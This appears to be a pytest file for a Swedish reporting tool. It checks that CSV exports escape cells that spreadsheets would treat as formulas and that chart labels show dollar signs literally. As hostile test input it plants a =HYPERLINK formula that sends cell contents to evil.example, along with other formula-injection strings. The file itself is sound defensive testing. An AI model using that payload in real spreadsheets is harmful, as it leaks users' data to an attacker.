"""Output that is safe to open: CSV cells a spreadsheet cannot take for formulas, chart labels drawn as
written. Organisation codes and names come from an import, so they are hostile input here."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from matplotlib.text import Text
from sqlalchemy import select
from typer.testing import CliRunner

from sipflows.hygiene import csv_cell
from sipflows.models import Contact, Organisation
from sipflows.report import figures_csv, render_charts, weekly_report_drafts, write_report
from sipflows.settings import Settings, get_settings
from sipflows.stats import compute_stats
from sipflows.transports.base import attachments_from_json
from tests.test_stats import APRIL, AS_OF, REGION, build_fixture_register, fixture_policy

FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Öppna")'
MATH = r"Köpings kommun $\frac{1}{$ IFO"
SQUARE = "IFO $x^2$"


@pytest.fixture
def hostile(build, session):
    build_fixture_register(build)
    orgs = {o.code: o for o in session.scalars(select(Organisation))}
    orgs["KOP-IFO"].name = HYPERLINK
    orgs[REGION].name = "+SUM(1;2)"
    orgs["FK"].code = "@FK"
    orgs["KOP-SKOLA"].name = "-2+3"
    session.flush()
    return orgs


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not FORMULA.match(cell) or NUMBER.match(cell), cell


def test_csv_cells_that_look_like_formulas_are_text(session, hostile):
    stats = compute_stats(session, APRIL, fixture_policy(), as_of=AS_OF)
    rows = _cells(figures_csv(stats, "sv"))
    _assert_safe(rows)
    header, body = rows[0], rows[1:]
    by_column = {name: [r[i] for r in body] for i, name in enumerate(header)}
    assert f"'{HYPERLINK} (KOP-IFO)" in by_column["organisation_name"]
    assert "'+SUM(1;2) (RV-VC-KOP)" in by_column["organisation_name"]
    assert "'@FK" in by_column["organisation"]
    # numbers are still numbers a spreadsheet sums
    for f, row in zip(stats.figures, body, strict=True):
        if f.value is not None:
            assert float(row[header.index("value")]) == pytest.approx(f.value, abs=0.005)


def test_the_weekly_reports_mailed_csv_is_neutralised_too(session, hostile):
    stats = compute_stats(session, APRIL, fixture_policy(), as_of=AS_OF)
    contact = session.scalars(select(Contact)).first()
    (draft,) = weekly_report_drafts(
        stats, [(contact.id, contact.email, "sv")], date(2026, 4, 19), Settings(mail_domain="sipflows.test")
    )
    attached = {a.filename: a for a in attachments_from_json(draft.attachments)}
    data = attached["sip-siffror-2026-04-19.csv"].content
    rows = _cells(data.decode("utf-8-sig"))
    _assert_safe(rows)
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70 123", "'+46 70 123"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),  # full-width equals sign
        ("-1.5", "-1.5"),
        (-3, "-3"),
        ("+2", "+2"),
        (66.67, "66.67"),
        ("1e-3", "1e-3"),
        ("Vårdcentralen", "Vårdcentralen"),
        (None, ""),
        ("", ""),
    ],
)
def test_csv_cell_follows_owasp_and_keeps_numbers(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def mathy(build, session):
    build_fixture_register(build)
    orgs = {o.code: o for o in session.scalars(select(Organisation))}
    orgs["KOP-IFO"].name = MATH
    orgs[REGION].name = SQUARE
    session.flush()


def test_chart_labels_are_drawn_as_written(session, mathy, tmp_path):
    stats = compute_stats(session, APRIL, fixture_policy(), as_of=AS_OF)
    folder = write_report(stats, tmp_path / "out")  # a lone "$" used to raise from the mathtext parser
    assert all(p.stat().st_size > 5000 for p in folder.charts.values())
    labels = []
    for chart in render_charts(stats, "sv"):
        chart.png()
        for text in chart.figure.findobj(Text):
            assert isinstance(text, Text)
            assert text.get_parse_math() is False and text.get_usetex() is False
            labels.append(text.get_text())
    assert any("$x^2$" in label for label in labels)
    assert any("$\\frac{1}{$" in label.replace("\n", "") for label in labels)


def test_cli_report_with_dollar_signs_in_names(session, mathy, db_url, tmp_path):
    from sipflows.cli import app

    session.commit()
    get_settings.cache_clear()
    policy = tmp_path / "policy.toml"
    policy.write_text("", encoding="utf-8")
    out = tmp_path / "rapport"
    env = {"SIPFLOWS_DATABASE_URL": db_url, "SIPFLOWS_POLICY_FILE": str(policy)}
    args = [
        "report",
        "--from",
        "2026-04-01",
        "--to",
        "2026-04-30",
        "--out",
        str(out),
        "--as-of",
        "2026-05-04",
    ]
    try:
        result = CliRunner().invoke(app, args, env=env)
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    assert (out / "charts" / "documentation_in_time.png").is_file()
